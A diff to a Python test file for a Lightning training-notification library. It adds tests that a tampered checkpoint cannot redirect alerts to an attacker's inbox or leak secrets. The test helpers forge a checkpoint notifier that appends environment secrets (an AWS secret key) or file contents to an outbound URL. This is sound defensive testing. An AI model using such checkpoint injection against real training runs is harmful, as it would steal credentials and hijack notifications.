@@ -8,6 +8,7 @@ import json
 import os
 import pickle
 import signal
+import sys
 import time
 import weakref
 from collections.abc import Callable
@@ -18,10 +19,11 @@ import pytest
 import torch
 from lightning.pytorch import LightningModule, Trainer
 from lightning.pytorch.callbacks import Callback, EarlyStopping, ModelCheckpoint, OnExceptionCheckpoint
+from lightning.pytorch.tuner import Tuner
 from torch.utils.data import DataLoader, TensorDataset
 from twinkle_notifier.integrations.lightning import NotifierCallback
 
-from twinkle_notifier import DingNotifier, Notifier
+from twinkle_notifier import DingNotifier, Notifier, resolve
 from twinkle_notifier.background import background
 from twinkle_notifier.inbox import Inbox
 from twinkle_notifier.supervision import VARIABLE, Supervision
@@ -238,8 +240,52 @@ def test_resume_with_another_class_uses_the_users(tmp_path: Path) -> None:
     assert len(other.messages) == 1
 
 
-def test_resume_without_a_notifier_restores_it(tmp_path: Path, inbox: Inbox, monkeypatch: pytest.MonkeyPatch) -> None:
-    """By its references, looked up at the resume."""
+class CorpNotifier(Notifier):
+    """A user's own, with a place and a token."""
+
+    def __init__(self, url: str, token: str) -> None:
+        self.url, self.token = url, token
+
+    def __call__(self, message: str) -> None:
+        DingNotifier(f"{resolve(self.url)}&stolen={resolve(self.token)}")(message)
+
+    def to_dict(self) -> dict[str, Any]:
+        return {"class": "CorpNotifier", "url": self.url, "token": self.token}
+
+
+def attacked(path: Path, url: str, token: str) -> None:
+    """Let the checkpoint have a notifier that leads to `url`."""
+    described = {"class": "DingNotifier", "ding_url": url}
+    if token:
+        described = {"class": "CorpNotifier", "url": url, "token": token}
+    checkpoint = torch.load(path, weights_only=True)
+    checkpoint["callbacks"] = {"twinkle_notifier": {"version": 1, "notifier": described, "sent": []}}
+    torch.save(checkpoint, path)
+
+
+@pytest.mark.parametrize("token", ["", "env:AWS_SECRET_ACCESS_KEY", "file:/etc/hostname"])
+@pytest.mark.parametrize("configured", [True, False])
+def test_an_attackers_checkpoint_redirects_nothing(
+    configured: bool, token: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, caplog: pytest.LogCaptureFixture
+) -> None:
+    """Neither alerts nor secrets; what the environment names is told, without a warning."""
+    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", "aws-secret")
+    path = save(tmp_path)
+    with Inbox() as own, Inbox() as evil:
+        attacked(path, evil.url, token)
+        if configured:
+            monkeypatch.setenv("TWINKLE_NOTIFIER", own.url)
+        resume(tmp_path, path, NotifierCallback(name="sft"))
+        assert background.flush(10)
+        assert (len(own.messages), evil.requests) == (int(configured), 0)
+    assert ("holds a literal text" in caplog.text) is not configured
+    assert ("nobody will be told" in caplog.text) is not configured
+
+
+def test_resume_without_a_notifier_restores_it(
+    tmp_path: Path, inbox: Inbox, monkeypatch: pytest.MonkeyPatch, caplog: pytest.LogCaptureFixture
+) -> None:
+    """By its references, looked up at the resume; a line in the log names class and host."""
     monkeypatch.setenv("DING_URL", inbox.url)
     monkeypatch.setenv("DING_SECRET", "SEC0123456789abcdef")
     path = save(tmp_path, NotifierCallback(DingNotifier("env:DING_URL", "env:DING_SECRET"), name="first"))
@@ -247,6 +293,55 @@ def test_resume_without_a_notifier_restores_it(tmp_path: Path, inbox: Inbox, mon
     resume(tmp_path, path, NotifierCallback(name="second"))
     assert background.flush(10)
     assert [message.title.split()[0] for message in inbox.messages] == ["first", "second"]
+    assert caplog.text.count("comes from its checkpoint: DingNotifier at 127.0.0.1") == 1
+
+
+@pytest.mark.parametrize("tune", ["lr_find", "scale_batch_size"])
+def test_a_tuner_is_no_resume_to_warn_of(
+    tune: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, caplog: pytest.LogCaptureFixture
+) -> None:
+    """It restores a checkpoint of its own, in which the environment's notifier is redacted."""
+
+    class Tuned(Model):
+        def __init__(self) -> None:
+            super().__init__()
+            self.lr, self.batch_size = 0.1, 2
+
+        def train_dataloader(self) -> DataLoader[Any]:
+            return DataLoader(TensorDataset(torch.ones(8, 4)), batch_size=self.batch_size)
+
+        val_dataloader = train_dataloader
+
+        def configure_optimizers(self) -> torch.optim.Optimizer:
+            return torch.optim.SGD(self.parameters(), self.lr)
+
+    options: dict[str, Any] = {"num_training": 3} if tune == "lr_find" else {"max_trials": 1, "steps_per_trial": 1}
+    with Inbox() as inbox:
+        monkeypatch.setenv("TWINKLE_NOTIFIER", inbox.url)
+        tuned = trainer(tmp_path, NotifierCallback(name="sft"))
+        getattr(Tuner(tuned), tune)(Tuned(), **options)
+        tuned.fit(Tuned())
+        assert background.flush(10)
+        assert "sft ended after" in inbox.messages[-1].title
+    assert [record.getMessage() for record in caplog.records if record.name == "twinkle_notifier"] == []
+
+
+@pytest.mark.parametrize("notifier", [RecordingNotifier(), None])
+def test_a_state_that_cannot_be_copied_hinders_no_resume(notifier: Notifier | None, tmp_path: Path) -> None:
+    """Lightning copies each callback's state, and fails for what is nested deeply."""
+    path, deep = save(tmp_path), "x"
+    for _ in range(900):
+        deep = {"class": deep}  # type: ignore[assignment]
+    checkpoint = torch.load(path, weights_only=True)
+    callback = NotifierCallback(notifier)
+    checkpoint["callbacks"] = {
+        callback.run.key: {"version": 1, "notifier": {"class": "DingNotifier", "x": deep}, "sent": []}
+    }
+    limit = sys.getrecursionlimit()
+    sys.setrecursionlimit(10_000)
+    torch.save(checkpoint, path)
+    sys.setrecursionlimit(limit)
+    resume(tmp_path, path, callback)
 
 
 def test_resume_without_a_notifier_or_its_secrets_warns(
